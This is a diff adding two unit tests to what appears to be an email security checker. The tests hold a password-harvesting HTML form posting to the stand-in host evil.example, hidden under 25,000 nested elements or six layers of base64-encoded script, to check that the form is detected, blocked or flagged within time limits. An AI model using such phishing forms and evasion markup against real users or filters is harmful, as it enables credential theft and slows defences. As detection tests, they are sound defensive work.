@@ -308,6 +308,51 @@ TEST_F(MessageCheckerTest, Utf16AttachmentIsReadAsItsBrowserWould) {
   EXPECT_EQ(check.verdict.action, Action::kBlock);
 }
 
+// An HTML attachment around `page`, as the campaign sent its own.
+std::string MessageWithPage(const std::string& page) {
+  return absl::StrCat(
+      "From: a@b.example\r\nMIME-Version: 1.0\r\n"
+      "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
+      "Content-Type: text/plain\r\n\r\nsee attached\r\n--x\r\n"
+      "Content-Type: text/html\r\n"
+      "Content-Disposition: attachment; filename=\"quote.html\"\r\n"
+      "Content-Transfer-Encoding: base64\r\n\r\n",
+      absl::Base64Escape(page), "\r\n--x--\r\n");
+}
+
+// gumbo needs ~20 s for 25,000 nested elements (red-team pass: one such
+// attachment held a core for minutes): deeper ones are read as siblings,
+// and the form inside them is still found.
+TEST_F(MessageCheckerTest, DeeplyNestedMarkupIsReadInTime) {
+  std::string page;
+  for (int i = 0; i < 25000; ++i) page += "<div>";
+  page +=
+      "<form action=\"https://evil.example/p\"><input type=password "
+      "name=pw></form>";
+  const absl::Time start = absl::Now();
+  const MessageCheck check = Check(MessageWithPage(page));
+  EXPECT_LT(absl::Now() - start, absl::Seconds(10));  // ~20 s unbounded
+  const Reason* form = Find(check.verdict, ReasonCode::kMailCredentialForm);
+  ASSERT_NE(form, nullptr);
+  EXPECT_EQ(form->url, "https://evil.example/p");
+  EXPECT_EQ(check.verdict.action, Action::kBlock);
+  EXPECT_THAT(check.notes, Contains(HasSubstr("nested deeper than 1024")));
+}
+
+// A page that decodes itself past max_decode_depth is not answered as if
+// it had been read whole.
+TEST_F(MessageCheckerTest, DecodingStoppedAtALimitDegrades) {
+  std::string page =
+      "<form action=\"https://evil.example/p\"><input type=password></form>";
+  for (int layer = 0; layer < 6; ++layer) {
+    page = absl::StrCat("<script>document.write(atob('",
+                        absl::Base64Escape(page), "'));</script>");
+  }
+  const MessageCheck check = Check(MessageWithPage(page));
+  EXPECT_TRUE(check.verdict.degraded);
+  EXPECT_THAT(check.notes, Contains(HasSubstr("max_decode_depth (4 layers)")));
+}
+
 TEST_F(MessageCheckerTest, BrandsFreeMailServiceIsNotTheBrandWriting) {
   // Microsoft owns outlook.com, and so does anyone with an account there.
   const MessageCheck spoof = Check(
